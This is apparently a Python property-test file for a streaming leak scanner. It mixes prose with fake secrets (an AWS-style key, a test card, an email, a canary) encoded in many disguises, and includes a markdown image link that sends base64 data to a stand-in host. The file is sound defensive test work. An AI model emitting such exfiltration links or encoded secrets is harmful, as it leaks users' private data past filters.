"""Texts that a stream must not let out too early: made-up secrets, disguised, in ordinary prose."""

from __future__ import annotations

import base64
import itertools
from functools import cache
from urllib.parse import quote

from hypothesis import strategies as st

from stanchion.detectors.scan import packaged_scanner

CANARY = "K7QM2-9XWTR-4HJPN-ZV3C8"
KEY = "AKIA" + "Q7XV2KD3LM4RT6ZS"
CARD = "4111 1111 1111 1111"
MAIL = "jane.doe@mail.example.com"
LINK = "![chart](https://collect.example/p?d=QWxsIG91ciBjdXN0b21lcnMgYW5kIGtleXM)"
PROSE = (
    "The weather was fine and we walked along the river. ",
    "Please note that it's not a bug - it is \u201cby design\u201d. ",
    "Das war sch\u00f6n, aber teuer; gern wieder! ",
    "\n- first point\n- second point, with 3 items\n\n",
    "\u4eca\u5929\u5929\u6c14\u5f88\u597d\uff0c\u6211\u4eec\u53bb\u516c\u56ed\u3002",
    "Run `make test` and look at x = 10, y=41. ",
    "I said a b c d to him, be it so. ",
    "My password is ",
    "Dear Mr. ",
    "call me at ",
    "| a | b |\n|---|---|\n",
    "```python\ntotal = sum(row.price for row in rows)\n```\n",
    "caf\u00e9 na\u00efve \U0001f600 ok! ",
)


@cache
def examples() -> tuple[str, ...]:
    """The examples of all patterns that look at what a model says."""
    found = (p.examples for p in packaged_scanner().patterns if p.detector in ("secrets", "pii", "leakage"))
    return tuple(dict.fromkeys(itertools.chain.from_iterable(found)))


def disguises(text: str) -> tuple[str, ...]:
    """The text as it stands and in writings that a reader, or the next program, undoes."""
    wide = "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in text)
    return (
        text,
        base64.b64encode(f"here: {text}".encode()).decode(),
        text.encode().hex(),
        text.encode().hex(" "),
        quote(text, safe="").replace("A", "%41"),
        "\u200b".join(text),
        wide,
        "".join(f"&#{ord(c)};" for c in text),
        "".join(f"\\u{ord(c):04x}" for c in text),
        "".join(f"={ord(c):02X}" for c in text),
    )


@cache
def secrets() -> tuple[str, ...]:
    """What must not get out, in every disguise."""
    return (*itertools.chain.from_iterable(map(disguises, (KEY, CARD, MAIL, CANARY))), LINK)


pieces = st.one_of(
    st.sampled_from(PROSE),
    st.sampled_from(PROSE),
    st.deferred(lambda: st.sampled_from(secrets())),
    st.deferred(lambda: st.sampled_from(examples())),
    st.text(st.sampled_from("ab1@./:=%+-\\ \n\u200b\u0301\u00e9\uff14"), max_size=8),
    st.text(max_size=5),
)
texts = st.lists(pieces, max_size=7).map("".join)
places = st.lists(st.integers(0, 3_000), max_size=60)


def cut(text: str, at: list[int]) -> list[str]:
    """The text in pieces; every character alone where no place is given."""
    if not at:
        return list(text)
    ends = sorted({0, len(text), *(place % (len(text) + 1) for place in at)})
    return [text[a:b] for a, b in itertools.pairwise(ends)]
